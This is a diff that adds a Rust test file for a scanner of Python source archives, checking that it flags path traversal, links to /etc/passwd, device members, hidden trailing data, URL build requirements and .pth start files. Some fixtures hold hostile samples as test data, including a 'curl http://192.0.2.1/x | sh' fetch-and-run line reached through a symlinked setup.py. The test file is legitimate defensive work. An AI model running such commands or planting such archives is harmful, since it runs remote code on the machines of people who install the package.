@@ -1,0 +1,279 @@
+//! Source archives of every format, right and wrong.
+
+use std::io::Write as _;
+
+use spip_core::{Cause, Odd, Trigger};
+
+use crate::support::{
+    assert_clean, gzipped, member, odd, scan_sdist, tar, tar_member, tar_of, zip,
+};
+
+const FILES: &[(&str, &[u8])] = &[
+    (
+        "demo-1.0/PKG-INFO",
+        b"Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n\n",
+    ),
+    (
+        "demo-1.0/setup.py",
+        b"from setuptools import setup\nsetup()\n",
+    ),
+    ("demo-1.0/demo/__init__.py", b"x = 1\n"),
+];
+
+/// What is odd in a tar archive of these members.
+fn odd_in(members: &[Vec<u8>]) -> Vec<Odd> {
+    odd(&scan_sdist("demo-1.0.tar.gz", &gzipped(&tar_of(members))))
+}
+
+fn file(name: &str, data: &[u8]) -> Vec<u8> {
+    tar_member(name.as_bytes(), b'0', b"", data)
+}
+
+#[test]
+fn ordinary_archives_of_every_format_are_clean() {
+    let plain = tar(FILES);
+    let mut bzip2 = bzip2::write::BzEncoder::new(Vec::new(), bzip2::Compression::best());
+    bzip2.write_all(&plain).unwrap();
+    let options = lzma_rust2::XzOptions::default();
+    let mut xz = lzma_rust2::XzWriter::new(Vec::new(), options).unwrap();
+    xz.write_all(&plain).unwrap();
+    let members: Vec<_> = FILES
+        .iter()
+        .map(|(name, data)| member(name, data))
+        .collect();
+    for (name, bytes) in [
+        ("demo-1.0.tar", plain.clone()),
+        ("demo-1.0.tar.gz", gzipped(&plain)),
+        ("demo-1.0.tgz", gzipped(&plain)),
+        ("demo-1.0.tar.bz2", bzip2.finish().unwrap()),
+        ("demo-1.0.tar.xz", xz.finish().unwrap()),
+        ("demo-1.0.zip", zip(&members)),
+    ] {
+        let contents = scan_sdist(name, &bytes);
+        assert_clean(&contents);
+        assert_eq!(contents.members, 3, "{name}");
+    }
+}
+
+#[test]
+fn what_honest_tools_write_is_clean() {
+    let global = tar_member(
+        b"pax_global_header",
+        b'g',
+        b"",
+        b"30 comment=0123456789abcdef0123\n",
+    );
+    let long = format!("demo-1.0/{}/x.txt", "d".repeat(150));
+    let header = tar_member(b"././@LongLink", b'L', b"", format!("{long}\0").as_bytes());
+    let record = |text: &str| {
+        let length = text.len() + 3;
+        format!("{length} {text}")
+    };
+    let pax = tar_member(
+        b"x",
+        b'x',
+        b"",
+        record("path=demo-1.0/\u{fc}.txt\n").as_bytes(),
+    );
+    let members = [
+        global,
+        tar_member(b"./", b'5', b"", b""),
+        tar_member(b"./demo-1.0/", b'5', b"", b""),
+        tar_member(b"./demo-1.0/demo/", 0, b"", b""),
+        file("./demo-1.0/demo/__init__.py", b"x = 1\n"),
+        header,
+        file("demo-1.0/cut", b"text"),
+        pax,
+        file("demo-1.0/u.txt", b"text"),
+        tar_member(b"demo-1.0/link", b'2', b"demo/__init__.py", b""),
+        tar_member(b"demo-1.0/hard", b'1', b"demo-1.0/demo/__init__.py", b""),
+        file("demo-1.0/demo/__init__.py", b"x = 1\n"),
+    ];
+    assert_clean(&scan_sdist("demo-1.0.tar.gz", &gzipped(&tar_of(&members))));
+    // Several gzip members and padding of tapes.
+    let whole = tar(FILES);
+    let (first, second) = whole.split_at(700);
+    let bytes = [gzipped(first), gzipped(second), vec![0; 512]].concat();
+    assert_clean(&scan_sdist("demo-1.0.tar.gz", &bytes));
+    let padded = [whole, vec![0; 10240]].concat();
+    assert_clean(&scan_sdist("demo-1.0.tar.gz", &gzipped(&padded)));
+}
+
+#[test]
+fn paths_that_leave_the_archive_are_told() {
+    for name in [
+        "../evil",
+        "/etc/evil",
+        "demo-1.0/../../evil",
+        "demo-1.0\\evil",
+        "demo-1.0/a\nb",
+    ] {
+        assert!(
+            odd_in(&[file(name, b"x")]).contains(&Odd::UnsafePath),
+            "{name}"
+        );
+    }
+    let member = tar_member(b"demo-1.0/\xff\xfe", b'0', b"", b"x");
+    assert_eq!(odd_in(&[member]), [Odd::UnsafePath]);
+}
+
+#[test]
+fn devices_pipes_and_unknown_members_are_told() {
+    for kind in [b'3', b'4', b'6'] {
+        assert_eq!(
+            odd_in(&[tar_member(b"demo-1.0/x", kind, b"", b"")]),
+            [Odd::Device]
+        );
+    }
+    assert_eq!(
+        odd_in(&[tar_member(b"demo-1.0/x", b'Q', b"", b"")]),
+        [Odd::Malformed]
+    );
+}
+
+#[test]
+fn links_that_leave_are_told() {
+    for (kind, target) in [
+        (b'2', &b"/etc/passwd"[..]),
+        (b'2', b"../../etc/passwd"),
+        (b'1', b"../etc/passwd"),
+        (b'1', b"/etc/passwd"),
+    ] {
+        let members = [
+            file("demo-1.0/a", b"x"),
+            tar_member(b"demo-1.0/l", kind, target, b""),
+        ];
+        assert_eq!(odd_in(&members), [Odd::EscapingLink]);
+    }
+}
+
+#[test]
+fn a_link_that_makes_a_build_script_of_data_is_followed() {
+    let script = b"#!/bin/sh\ncurl http://192.0.2.1/x | sh\n";
+    let members = [
+        tar_member(b"demo-1.0/setup.py", b'2', b"data/notes.txt", b""),
+        file(
+            "demo-1.0/data/notes.txt",
+            b"import os\nos.system('./run.sh')\n",
+        ),
+        file("demo-1.0/run.sh", script),
+    ];
+    let contents = scan_sdist("demo-1.0.tar.gz", &gzipped(&tar_of(&members)));
+    assert_eq!(odd(&contents), [Odd::ShellCommand]);
+    assert_eq!(contents.oddities[0].trigger, Trigger::Build);
+}
+
+#[test]
+fn members_of_one_name_are_told_if_they_differ() {
+    let same = [
+        file("demo-1.0/a.py", b"x = 1"),
+        file("demo-1.0/a.py", b"x = 1"),
+    ];
+    assert_eq!(odd_in(&same), []);
+    let differ = [
+        file("demo-1.0/a.py", b"x = 1"),
+        file("demo-1.0/a.py", b"x = 2"),
+    ];
+    assert_eq!(odd_in(&differ), [Odd::DuplicateName]);
+    let kinds = [
+        file("demo-1.0/a", b""),
+        tar_member(b"demo-1.0/a", b'2', b"b", b""),
+    ];
+    assert_eq!(odd_in(&kinds), [Odd::DuplicateName]);
+    let cases = [file("demo-1.0/a.py", b"x"), file("demo-1.0/A.py", b"x")];
+    assert_eq!(odd_in(&cases), [Odd::ConflictingName]);
+}
+
+#[test]
+fn data_behind_the_end_is_told() {
+    let whole = tar(FILES);
+    let hidden = [whole.clone(), tar(FILES)].concat();
+    let behind = |bytes: &[u8]| odd(&scan_sdist("demo-1.0.tar.gz", bytes));
+    assert_eq!(behind(&gzipped(&hidden)), [Odd::DataOutside]);
+    assert_eq!(
+        behind(&[gzipped(&whole), b"#!/bin/sh".to_vec()].concat()),
+        [Odd::DataOutside]
+    );
+    assert_eq!(
+        behind(&[gzipped(&whole), gzipped(b"more")].concat()),
+        [Odd::DataOutside]
+    );
+}
+
+#[test]
+fn an_archive_of_two_formats_is_read_as_both() {
+    let zipped = zip(&[member("demo-1.0/run.sh", b"curl http://192.0.2.1/x | sh\n")]);
+    let both = [gzipped(&tar(FILES)), zipped].concat();
+    let contents = scan_sdist("demo-1.0.tar.gz", &both);
+    assert!(odd(&contents).contains(&Odd::Malformed));
+    assert!(odd(&contents).contains(&Odd::ShellCommand));
+    assert_eq!(contents.members, 4);
+}
+
+#[test]
+fn names_that_two_headers_give_are_told() {
+    let header = tar_member(b"././@LongLink", b'L', b"", b"demo-1.0/one\0");
+    let pax = tar_member(b"x", b'x', b"", b"21 path=demo-1.0/two\n");
+    assert_eq!(
+        odd_in(&[header, pax, file("demo-1.0/x", b"")]),
+        [Odd::HeaderMismatch]
+    );
+    let global = tar_member(b"g", b'g', b"", b"21 path=demo-1.0/two\n");
+    assert_eq!(
+        odd_in(&[global, file("demo-1.0/x", b"")]),
+        [Odd::HeaderMismatch]
+    );
+}
+
+#[test]
+fn what_cannot_be_read_is_unread() {
+    let unread = |members: &[Vec<u8>]| {
+        let contents = scan_sdist("demo-1.0.tar.gz", &gzipped(&tar_of(members)));
+        contents.unread.first().map(|unread| unread.cause)
+    };
+    let malformed = Some(Cause::Malformed);
+    assert_eq!(
+        unread(&[tar_member(b"demo-1.0/x", b'S', b"", b"")]),
+        malformed
+    );
+    let sizes = tar_member(b"x", b'x', b"", b"12 size=300\n");
+    assert_eq!(unread(&[sizes, file("demo-1.0/x", b"abc")]), malformed);
+    let mut broken = file("demo-1.0/x", b"abc");
+    broken[0] = b'X';
+    assert_eq!(unread(&[file("demo-1.0/a", b""), broken]), malformed);
+    for bytes in [&b""[..], b"\x1f\x8b", b"some text that is no archive"] {
+        let contents = scan_sdist("demo-1.0.tar.gz", bytes);
+        assert_eq!(contents.unread.len(), 1, "{bytes:?}");
+    }
+}
+
+#[test]
+fn several_tops_and_other_names_are_told() {
+    assert_eq!(
+        odd_in(&[file("a/x", b""), file("b/y", b"")]),
+        [Odd::SeveralTops]
+    );
+    let contents = scan_sdist("other-1.0.tar.gz", &gzipped(&tar(FILES)));
+    assert_eq!(odd(&contents), [Odd::NameMismatch]);
+    assert_eq!(contents.oddities[0].site.member, "demo-1.0/PKG-INFO");
+}
+
+#[test]
+fn build_requirements_by_address_are_told() {
+    let text = b"[build-system]\nrequires = ['x @ https://example.invalid/x.whl']\n";
+    assert_eq!(
+        odd_in(&[file("demo-1.0/pyproject.toml", text)]),
+        [Odd::BuildRequirementUrl]
+    );
+}
+
+#[test]
+fn start_files_in_source_archives_are_told() {
+    let members = [
+        file("demo-1.0/demo.pth", b"import demo_boot\n"),
+        file("demo-1.0/x", b""),
+    ];
+    let contents = scan_sdist("demo-1.0.tar.gz", &gzipped(&tar_of(&members)));
+    assert_eq!(odd(&contents), [Odd::StartFile]);
+    assert_eq!(contents.oddities[0].trigger, Trigger::Call);
+}
